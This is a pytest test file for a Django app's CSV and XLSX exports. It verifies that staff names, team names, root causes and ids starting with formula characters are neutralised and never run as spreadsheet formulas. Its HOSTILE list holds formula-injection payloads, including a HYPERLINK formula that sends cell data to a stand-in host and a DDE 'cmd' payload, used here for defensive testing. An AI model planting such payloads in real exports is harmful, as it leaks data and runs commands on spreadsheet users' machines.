"""Every export, with hostile names: no cell ever runs as a formula, and numbers stay numbers.

Before, a staff or team name, a QA root cause, a complaint id or an order id starting with
``=``, ``+``, ``-``, ``@`` (or a tab or CR) was written raw: openpyxl wrote ``=…`` strings as
formulas and the CSV files ran them when opened.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib import admin
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import RequestFactory
from openpyxl import load_workbook

from commission.models import Payout, PayoutStatus
from performance.common.exporting import EXPORT_FORMATS, TableXLSX, neutralised, table_bytes
from performance.models import AppraisalCycle, Complaint, Inspection, Order, Staff, Team

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
LEADS = ("=", "+", "-", "@", "\t", "\r")


def test_text_cells_are_neutralised_and_numbers_are_not():
    # given a row of hostile text, a negative amount, a date-less number and a plain name
    row = [*HOSTILE, Decimal("-12.50"), -3, "王伟"]
    # when written as CSV and XLSX
    text = table_bytes(["c"] * len(row), [row], "csv").decode("utf-8-sig")
    book = load_workbook(io.BytesIO(table_bytes(["c"] * len(row), [row], "xlsx", sheet="Payouts")))
    # then CSV text gets the OWASP apostrophe, numbers keep their exact text
    written = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert written == ["'" + h for h in HOSTILE] + ["-12.50", "-3", "王伟"]
    # and XLSX keeps the text as written in text cells (quote prefix), numbers as numbers
    sheet = book["Payouts"]
    cells = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    assert [c.value for c in cells[: len(HOSTILE)]] == [h.replace("\r", "\n") for h in HOSTILE]  # XML reads CR as LF
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[: len(HOSTILE)])
    assert (cells[-3].data_type, cells[-3].value, cells[-3].number_format) == ("n", -12.5, "#,##0.00")
    assert cells[-1].value == "王伟" and not cells[-1].quotePrefix


def test_neutralised_leaves_ordinary_text_alone():
    assert [neutralised(t) for t in ("E001", "李娜", "a=b", "")] == ["E001", "李娜", "a=b", ""]


@pytest.fixture
def hostile_company():
    """A small demo company whose every name and free text is a formula."""
    call_command("seed_demo", "--staff", "12", "--days", "35", "--seed", "5", stdout=io.StringIO())
    call_command("qa_sample", "--start", "2000-01-01", "--end", "2100-01-01", stdout=io.StringIO())
    for i, staff in enumerate(Staff.objects.order_by("pk")):
        staff.name = HOSTILE[i % len(HOSTILE)]
        staff.save(update_fields=["name"])
    for i, team in enumerate(Team.objects.order_by("pk")):
        team.name = f"{HOSTILE[0]}{i}"
        team.save(update_fields=["name"])
    Inspection.objects.update(root_cause=HOSTILE[2], status="done", score=Decimal("50.00"), passed=False)
    for i, c in enumerate(Complaint.objects.order_by("pk")):
        c.external_id = f"{HOSTILE[3]}{i}"
        c.save(update_fields=["external_id"])
    for i, o in enumerate(Order.objects.order_by("pk")[:5]):
        o.external_id = f"{HOSTILE[0]}{i}"
        o.save(update_fields=["external_id"])
    return AppraisalCycle.objects.exclude(closed_at=None).get()


def assert_csv_safe(body: bytes):
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) > 1
    unsafe = [v for row in rows for v in row if v.startswith(LEADS) and not _number(v)]
    assert unsafe == []
    assert any(v.startswith("'=") or v.startswith("'@") or v.startswith("'-2") for row in rows for v in row)


def assert_xlsx_safe(body: bytes, sheet_name=None):
    book = load_workbook(io.BytesIO(body))
    sheet = book.worksheets[0]
    assert sheet.title not in ("Sheet", "Tablib Dataset") and (sheet_name is None or sheet.title == sheet_name)
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [
        c.value for c in cells if isinstance(c.value, str) and c.value.startswith(LEADS) and not c.quotePrefix
    ] == []
    return sheet


def _number(text):
    try:
        Decimal(text)
        return True
    except ArithmeticError:
        return False


def test_every_command_export_is_formula_safe_in_csv_and_xlsx(hostile_company, tmp_path):
    cycle = hostile_company
    exports = {
        "results": ["export_results", cycle.name],
        "payouts": ["export_payouts", cycle.name],
        "inspections": ["export_inspections", "--start", "2000-01-01", "--end", "2100-01-01"],
        "complaints": ["export_complaints", "--start", "2000-01-01", "--end", "2100-01-01"],
    }
    for name, args in exports.items():
        for fmt in ("csv", "xlsx"):
            path = tmp_path / f"{name}.{fmt}"
            call_command(*args, "--output", str(path), "--format", fmt, stdout=io.StringIO())
            if fmt == "csv":
                assert_csv_safe(path.read_bytes())
            else:
                assert_xlsx_safe(path.read_bytes(), sheet_name=name.title())


def test_payout_xlsx_has_typed_amounts_widths_and_a_totals_row(hostile_company, tmp_path):
    path = tmp_path / "p.xlsx"
    call_command("export_payouts", hostile_company.name, "--output", str(path), stdout=io.StringIO())
    sheet = assert_xlsx_safe(path.read_bytes(), "Payouts")
    header = [c.value for c in sheet[1]]
    gross = header.index("gross") + 1
    rows = list(sheet.iter_rows(min_row=2))
    amounts = [r[gross - 1] for r in rows]
    assert all(c.data_type == "n" and c.number_format == "#,##0.00" for c in amounts)
    assert rows[-1][0].value == "TOTAL" and rows[-1][0].font.b
    payouts = Payout.objects.filter(cycle=hostile_company)
    assert Decimal(str(rows[-1][gross - 1].value)) == sum(p.gross for p in payouts)
    assert sheet.column_dimensions["A"].width >= len("employee_no") and sheet.freeze_panes == "A2"


def test_the_web_and_admin_downloads_are_formula_safe(hostile_company, client):
    cycle = hostile_company
    root = User.objects.create_superuser("root", "r@example.com", "x")
    client.force_login(root)
    # the admin's results downloads
    assert_csv_safe(client.get(f"/admin/performance/appraisalcycle/{cycle.pk}/results.csv").content)
    assert_xlsx_safe(client.get(f"/admin/performance/appraisalcycle/{cycle.pk}/results.xlsx").content, "Results")
    # a statement CSV
    payout = Payout.objects.filter(cycle=cycle).first()
    assert_csv_safe(client.get(f"/commission/statements/{payout.pk}.csv").content)
    # payroll downloads from the payout list
    Payout.objects.filter(cycle=cycle).update(status=PayoutStatus.APPROVED)
    ids = [str(pk) for pk in Payout.objects.filter(cycle=cycle).values_list("pk", flat=True)]
    body = client.post("/admin/commission/payout/", {"action": "payroll_xlsx", "_selected_action": ids}).content
    assert_xlsx_safe(body, "Payouts")
    # every django-import-export export of the admin, in each of its formats
    request = RequestFactory().get("/")
    request.user = root
    for model, model_admin in admin.site._registry.items():
        if not hasattr(model_admin, "get_export_formats"):
            continue
        formats = model_admin.get_export_formats()
        assert formats == EXPORT_FORMATS, model
        for file_format in formats:
            body = model_admin.get_export_data(file_format(), request, model.objects.all())
            if not model.objects.exists():
                continue
            if file_format is TableXLSX:
                assert_xlsx_safe(body)
            elif model in (Staff, Payout):
                assert_csv_safe(body)
